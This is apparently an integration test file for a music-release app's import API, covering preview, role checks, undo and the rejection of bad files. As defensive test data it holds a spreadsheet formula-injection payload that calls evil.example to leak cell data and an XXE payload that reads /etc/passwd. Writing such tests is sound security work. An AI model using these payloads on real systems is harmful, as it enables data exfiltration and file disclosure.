import {
  IMPORT_LIMITS,
  type ImportPlan,
  type ImportPreview,
  parseIsoDuration,
  type ReleaseSheet,
  readReleaseFields,
  readTracks,
} from '@patchline/shared';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { type Actors, freshUpc, ownedRelease, partitionOf, signInActors } from './support/api-actors.js';
import { connectRelease, waitForDoc } from './support/release-client.js';
import { startTestStack, type TestStack } from './support/test-stack.js';

/**
 * Import over the REST API against the real stack (docs/IMPORT.md): preview writes nothing and
 * shows every problem per cell; apply is one edit through the room, live for open editors and
 * judged like any edit (role, label fields, status); bad files change nothing.
 */
let stack: TestStack;
let actors: Actors;

beforeAll(async () => {
  const started = await startTestStack({ workers: 1 });
  stack = started.stack;
  actors = await signInActors(stack);
  return started.teardown;
});

const fileOf = (fileName: string, content: string | Uint8Array, mapping?: Array<string | null>) => ({
  fileName,
  contentBase64: Buffer.from(content).toString('base64'),
  ...(mapping ? { mapping } : {}),
});

/** The release's log items (ARCHITECTURE.md, "Storage: one numbered log"), oldest first. */
const logOf = async (releaseId: string) =>
  (await partitionOf(stack, releaseId))
    .filter((item) => String(item.SK).startsWith('LOG#'))
    .sort((a, b) => String(a.SK).localeCompare(String(b.SK))) as Array<{ by: string[]; paths: string[] }>;

const csv = (...rows: string[][]) => `${rows.map((row) => row.join(',')).join('\r\n')}\r\n`;

interface ApplyResult {
  releaseId: string;
  plan: ImportPlan;
}

describe('POST /imports/preview', () => {
  it('detects the mapping, lists unknown columns and every bad cell, and writes nothing', async () => {
    const releaseId = await ownedRelease(stack, actors);
    const before = await partitionOf(stack, releaseId);
    const file = fileOf(
      'tracks.csv',
      csv(
        ['Track Title', 'ISRC Code', 'Duration (mm:ss)', 'Lyrics Language', 'Price Tier'],
        ['Night Bus Home', 'QZ-DEM-26-00001', '3:41', 'en', 'Front'],
        ['New Song', 'BAD', 'long', 'elvish', 'Mid'],
      ),
    );
    const response = await actors.api.editor.post<ImportPreview>('/imports/preview', { ...file, releaseId });
    expect(response.status).toBe(200);
    const preview = response.body;
    expect(preview.columns.map((c) => c.field)).toEqual([
      'track.title',
      'track.isrc',
      'track.duration',
      'track.language',
      null,
    ]);
    expect(preview.unmappedColumns).toEqual(['Price Tier']);
    expect(preview.problems.map((p) => [p.row, p.header, p.severity])).toEqual([
      [3, 'ISRC Code', 'warning'],
      [3, 'Duration (mm:ss)', 'error'],
      [3, 'Lyrics Language', 'error'],
    ]);
    expect(preview.plan.added.map((t) => t.title)).toEqual(['New Song']);
    expect(preview.refusal).toBeNull();
    expect(await partitionOf(stack, releaseId)).toEqual(before);
  });

  it("says before anything is written when the caller's role may not write a column", async () => {
    const releaseId = await ownedRelease(stack, actors);
    const file = fileOf('label.csv', csv(['UPC', 'Track Title'], [freshUpc(), 'Intro']));
    const preview = await actors.api.editor.post<ImportPreview>('/imports/preview', { ...file, releaseId });
    expect(preview.body.refusal?.message).toMatch(/Your role cannot change upc/);
  });
});

describe('POST /releases/:id/import', () => {
  it('applies as one edit that open editors receive live, with values stored as plain text', async () => {
    const releaseId = await ownedRelease(stack, actors);
    const watcher = connectRelease(stack.config.websocketUrl, releaseId, actors.token.viewer);
    await watcher.whenSynced();
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"x")';
    const file = fileOf(
      'tracks.csv',
      csv(
        ['Release Title', 'Track Title', 'ISRC'],
        ['Imported Title', `"${formula.replace(/"/g, '""')}"`, ''],
      ),
    );
    const logBefore = await logOf(releaseId);
    const response = await actors.api.editor.post<ApplyResult>(`/releases/${releaseId}/import`, file);
    expect(response.status).toBe(200);
    // One commit, recorded as the editor's, with the paths it changed.
    const logAfter = await logOf(releaseId);
    expect(logAfter.length).toBe(logBefore.length + 1);
    expect(logAfter.at(-1)).toMatchObject({ by: [actors.sub.editor] });
    expect(logAfter.at(-1)!.paths).toContain('release.title');
    expect(response.body.plan.release).toEqual([
      expect.objectContaining({ field: 'title', after: 'Imported Title' }),
    ]);
    await waitForDoc(watcher.doc, (doc) => readReleaseFields(doc).title === 'Imported Title');
    expect(readTracks(watcher.doc).at(-1)!.title).toBe(formula);
    const sheet = await actors.api.editor.get<ReleaseSheet>(`/releases/${releaseId}/export.json`);
    expect(sheet.body.tracks.at(-1)!.title).toBe(formula);
  });

  it('keeps the sheet as it stood as a version, and its author takes the import back from it', async () => {
    const releaseId = await ownedRelease(stack, actors);
    const before = (await actors.api.editor.get<ReleaseSheet>(`/releases/${releaseId}/export.json`)).body;
    const file = fileOf(
      'label-sheet.csv',
      csv(['Release Title', 'Track Title', 'Duration'], ['Taken Back', 'New One', '3:10']),
    );
    const response = await actors.api.editor.post<
      ApplyResult & { undo: { versionId: string; paths: string[] } }
    >(`/releases/${releaseId}/import`, file);
    expect(response.status).toBe(200);
    const { undo } = response.body;
    expect(undo.paths).toContain('release.title');
    const versions = await actors.api.editor.get<{ versions: { versionId: string; name: string | null }[] }>(
      `/releases/${releaseId}/versions`,
    );
    expect(versions.body.versions).toContainEqual(
      expect.objectContaining({ versionId: undo.versionId, name: 'Before import of label-sheet.csv' }),
    );
    const undone = await actors.api.editor.post(`/releases/${releaseId}/versions/${undo.versionId}/restore`, {
      paths: undo.paths,
    });
    expect(undone.status).toBe(200);
    const after = (await actors.api.editor.get<ReleaseSheet>(`/releases/${releaseId}/export.json`)).body;
    expect(after).toEqual(before);
  });

  it('refuses label fields to an editor and any import into a locked status, changing nothing', async () => {
    const releaseId = await ownedRelease(stack, actors);
    const label = fileOf('label.csv', csv(['Label', 'Track Title'], ['Other Records', 'Intro']));
    const sheetOf = async () => (await actors.api.manager.get(`/releases/${releaseId}/export.json`)).body;
    const before = await sheetOf();
    const refused = await actors.api.editor.post(`/releases/${releaseId}/import`, label);
    expect(refused.status).toBe(403);
    expect(refused.body.message).toMatch(/Your role cannot change label/);
    expect(await sheetOf()).toEqual(before);

    const manager = await actors.api.manager.post<ApplyResult>(`/releases/${releaseId}/import`, label);
    expect(manager.status).toBe(200);

    const reviewed = await ownedRelease(stack, actors, { status: 'approved' });
    const title = fileOf('t.csv', csv(['Release Title'], ['Changed']));
    for (const actor of ['editor', 'manager'] as const) {
      const locked = await actors.api[actor].post(`/releases/${reviewed}/import`, title);
      expect(locked.status).toBe(403);
      expect(locked.body.message).toMatch(/while it is approved/);
    }
    const viewer = await actors.api.viewer.post(`/releases/${releaseId}/import`, title);
    expect(viewer.status).toBe(403);
  });

  it('uses the mapping the person chose, and refuses a mapping that does not fit the file', async () => {
    const releaseId = await ownedRelease(stack, actors);
    const file = csv(['Name', 'Code'], ['Chosen Title', 'QZPLX2600099']);
    const mapped = await actors.api.editor.post<ApplyResult>(
      `/releases/${releaseId}/import`,
      fileOf('tracks.csv', file, ['track.title', 'track.isrc']),
    );
    expect(mapped.status).toBe(200);
    expect(mapped.body.plan.added).toEqual([expect.objectContaining({ title: 'Chosen Title' })]);
    for (const mapping of [['track.title'], ['track.title', 'track.title'], ['track.title', 'status']]) {
      const bad = await actors.api.editor.post(
        `/releases/${releaseId}/import`,
        fileOf('t.csv', file, mapping),
      );
      expect(bad.status).toBe(400);
    }
  });
});

/** The demo release's sheet and that of `copyId`, made from one of its exports. */
const demoAndCopy = (copyId: string) =>
  Promise.all(
    [stack.demoReleaseId, copyId].map(
      async (id) => (await actors.api.manager.get<ReleaseSheet>(`/releases/${id}/export.json`)).body,
    ),
  );
/** A sheet's release fields but its status: an import never sets the status. */
const withoutStatus = ({ release: { status: _status, ...release } }: ReleaseSheet) => release;

describe('POST /releases/import (a new release)', () => {
  it('creates a release from an .xlsx, owned by the caller', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Tracks');
    sheet.addRow(['Release Title', 'Release Artist', 'Track Number', 'Track Title', 'ISRC', 'Duration']);
    sheet.addRow(['From Excel', 'Nova Lane', 1, 'First', 'QZPLX2600101', '3:05']);
    sheet.addRow([null, null, 2, { formula: 'CONCAT("Sec","ond")', result: 'Second' }, 'QZPLX2600102', 200]);
    const bytes = new Uint8Array(await workbook.xlsx.writeBuffer());
    const response = await actors.api.owner.post<ApplyResult>(
      '/releases/import',
      fileOf('album.xlsx', bytes),
    );
    expect(response.status).toBe(201);
    const { releaseId } = response.body;
    const meta = await actors.api.owner.get<{ title: string; role: string }>(`/releases/${releaseId}`);
    expect(meta.body).toMatchObject({ title: 'From Excel', role: 'owner' });
    const exported = await actors.api.owner.get<ReleaseSheet>(`/releases/${releaseId}/export.json`);
    expect(exported.body.tracks.map((t) => [t.title, t.isrc, t.duration])).toEqual([
      ['First', 'QZPLX2600101', 'PT3M5S'],
      ['Second', 'QZPLX2600102', 'PT3M20S'],
    ]);
  });

  it('gives back the demo release from its own CSV export, every column mapped by its header', async () => {
    const manager = actors.api.manager;
    const exported = await manager.get<string>(`/releases/${stack.demoReleaseId}/export.csv`);
    const preview = await manager.post<ImportPreview>('/imports/preview', fileOf('demo.csv', exported.body));
    expect(preview.body.unmappedColumns).toEqual(['release.status']);
    expect(preview.body.problems).toEqual([]);
    const created = await manager.post<ApplyResult>('/releases/import', fileOf('demo.csv', exported.body));
    expect(created.status).toBe(201);
    const [original, copy] = await demoAndCopy(created.body.releaseId);
    expect(withoutStatus(copy)).toEqual(withoutStatus(original));
    const tracks = (s: ReleaseSheet) =>
      s.tracks.map(({ id: _i, position: _p, credits, splits, ...t }) => ({
        ...t,
        credits: credits.map(({ id: _c, ...credit }) => credit),
        splits: splits.map(({ id: _s, ...split }) => split),
      }));
    expect(tracks(copy)).toEqual(tracks(original));
  });

  it('round-trips the demo release through its DDEX export into a new release', async () => {
    const manager = actors.api.manager;
    const xml = await manager.get<string>(`/releases/${stack.demoReleaseId}/export.ddex.xml`);
    expect(xml.status).toBe(200);
    const created = await manager.post<ApplyResult>('/releases/import', fileOf('demo.xml', xml.body));
    expect(created.status).toBe(201);
    const [original, copy] = await demoAndCopy(created.body.releaseId);
    expect(withoutStatus(copy)).toEqual(withoutStatus(original));
    // A track whose artist is the release's comes back empty: the message cannot tell them apart.
    const scalars = (s: ReleaseSheet) =>
      s.tracks.map(({ id: _i, position: _p, credits: _c, splits: _s, ...t }) => ({
        ...t,
        artists: t.artists || s.release.displayArtist,
        language: t.language || s.release.language,
        duration: parseIsoDuration(t.duration),
      }));
    expect(scalars(copy)).toEqual(scalars(original));
  });

  it('refuses bad files with a clear message and creates nothing', async () => {
    const listed = async () =>
      (await actors.api.outsider.get<{ releases: unknown[] }>('/releases')).body.releases.length;
    const count = await listed();
    const cases: Array<[ReturnType<typeof fileOf>, RegExp]> = [
      [fileOf('tracks.xlsx', 'Track Title\r\nA\r\n'), /named \.xlsx but does not hold an Excel/],
      [fileOf('tracks.csv', 'Night Bus,QZDEM2600001,3:41\r\n'), /No header row/],
      [fileOf('tracks.csv', new Uint8Array(IMPORT_LIMITS.maxFileBytes + 10).fill(0x41)), /at most 2 MB/],
      [
        fileOf(
          'x.xml',
          '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><NewReleaseMessage>&x;</NewReleaseMessage>',
        ),
        /DTD/,
      ],
    ];
    for (const [file, message] of cases) {
      const response = await actors.api.outsider.post('/releases/import', file);
      expect(response.status).toBe(400);
      expect(response.body.message).toMatch(message);
    }
    expect(await listed()).toBe(count);
  });
});
